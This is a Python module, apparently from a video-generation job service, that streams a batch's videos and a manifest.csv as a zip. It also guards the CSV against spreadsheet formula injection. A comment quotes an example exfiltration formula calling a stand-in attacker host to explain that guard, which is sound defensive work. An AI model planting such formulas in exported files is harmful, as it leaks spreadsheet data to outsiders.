"""A batch's download: its videos (and images, for image tasks) and a manifest.csv describing
every job, zipped as it streams."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

from .auth import Caller
from .blobs import BlobStore, StoredBlob
from .schemas import iso
from .reads import batch_summary, every_item
from .store import BatchItem, JobStore
from .tasks import makes

MANIFEST_FIELDS = (
    "file", "job_id", "position", "state", "task", "image", "audio", "last_frame", "prompt", "negative_prompt",
    "seed", "parameters", "node", "attempts", "created_at", "started_at", "finished_at",
    "seconds", "error", "retry_of",
)


async def batch_zip(store: JobStore, blobs: BlobStore, who: Caller, batch_id: str) -> AsyncIterator[bytes]:
    """The batch's videos and a manifest.csv describing every job, as a zip made while it streams."""
    # Checked now, not at the first chunk: once the zip streams, the 200 has been sent.
    await batch_summary(store, batch_id, who)  # 404 for a batch this key cannot see
    return _zip_chunks(store, blobs, batch_id, who.sees)


async def _zip_chunks(store: JobStore, blobs: BlobStore, batch_id: str, owner: str | None) -> AsyncIterator[bytes]:
    """The zip of `batch_zip`, chunk by chunk, each video read a MiB at a time off the loop."""
    videos: list[tuple[str, StoredBlob]] = []
    manifest = io.StringIO()
    writer = csv.DictWriter(manifest, fieldnames=MANIFEST_FIELDS)
    writer.writeheader()
    taken: set[str] = set()
    async for item in every_item(store, batch_id, owner):
        job, file = item.job, ""
        if job.state == "succeeded" and job.result_sha and not job.files_expired:
            blob = await blobs.open(job.result_sha)
            if blob is not None:
                file = _result_name(item, taken)
                videos.append((file, blob))
        writer.writerow(_manifest_row(item, file))
    sink = _ZipSink()
    with zipfile.ZipFile(sink, "w", compression=zipfile.ZIP_STORED, allowZip64=True) as archive:
        for name, blob in videos:
            info = zipfile.ZipInfo(name, date_time=time.localtime(blob.modified)[:6])
            info.file_size = blob.size  # lets zipfile pick zip64 up front for huge files
            with archive.open(info, "w") as member:
                async for chunk in blob.chunks(1024 * 1024):
                    member.write(chunk)
                    yield sink.take()
            yield sink.take()
        archive.writestr("manifest.csv", manifest.getvalue())
    yield sink.take()


class _ZipSink(io.RawIOBase):
    """A write-only, unseekable file for `zipfile`: what was written is taken out as it comes."""

    # Unseekable, zipfile writes each member's sizes after its data (data descriptors), so the
    # archive streams out while it is made and is never whole in memory.

    def __init__(self) -> None:
        self._chunks: list[bytes] = []

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        self._chunks.append(bytes(data))
        return len(data)

    def take(self) -> bytes:
        data = b"".join(self._chunks)
        self._chunks.clear()
        return data


def _result_name(item: BatchItem, taken: set[str]) -> str:
    """`0007_face_voice.mp4` (`.png` for an image): the job's place in the batch and its files,
    unique in the zip."""
    stems = [Path(name).stem for name in item.files.values()]
    label = "_".join([f"{item.position:04d}" if item.position else item.job.id, *stems])
    label = re.sub(r"[^\w.\-]+", "-", label).strip("-")[:120] or item.job.id
    fallback = "png" if makes(item.job.task) == "image" else "mp4"
    ext = re.sub(r"[^a-z0-9]", "", str((item.job.result_meta or {}).get("format") or fallback))[:5] or fallback
    name, n = f"{label}.{ext}", 1
    while name in taken:
        n += 1
        name = f"{label}-{n}.{ext}"
    taken.add(name)
    return name


# A spreadsheet reads a cell starting with one of these as a formula: a prompt such as
# `=HYPERLINK("http://evil.example/?"&A1)` would run when someone opens manifest.csv (OWASP's
# "CSV injection"). A leading `'` makes it text again, shown as written.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _as_text(cell: Any) -> Any:
    if isinstance(cell, str) and cell.startswith(_FORMULA_STARTS):
        return "'" + cell
    return cell


def _manifest_row(item: BatchItem, file: str) -> dict[str, Any]:
    """One job's line of manifest.csv (`file` is empty when the zip has no video of it); every
    cell a spreadsheet would take for a formula is kept as text."""
    job = item.job
    params = dict(job.params)
    began = job.started_at or job.submitted_at
    took = job.finished_at - began if job.finished_at and began else None
    row = {
        "file": file, "job_id": job.id, "position": item.position or "", "state": job.state,
        "task": job.task, "image": item.files.get("image", ""), "audio": item.files.get("audio", ""),
        "last_frame": item.files.get("last_frame", ""),
        "prompt": params.pop("prompt", ""), "negative_prompt": params.pop("negative_prompt", ""),
        "seed": params.pop("seed", ""), "parameters": json.dumps(params, sort_keys=True) if params else "",
        "node": job.upstream or "", "attempts": job.attempts, "created_at": iso(job.created_at),
        "started_at": iso(job.started_at) or "", "finished_at": iso(job.finished_at) or "",
        "seconds": f"{took:.1f}" if took is not None else "", "error": job.error or "",
        "retry_of": item.retry_of or "",
    }
    return {name: _as_text(cell) for name, cell in row.items()}
